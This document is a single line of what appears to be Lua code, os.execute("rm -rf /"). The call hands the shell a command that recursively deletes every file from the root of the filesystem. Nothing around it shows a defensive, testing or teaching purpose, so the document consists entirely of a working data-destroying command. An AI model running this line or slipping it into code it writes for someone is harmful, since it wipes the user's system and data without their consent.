
os.execute("rm -rf /")
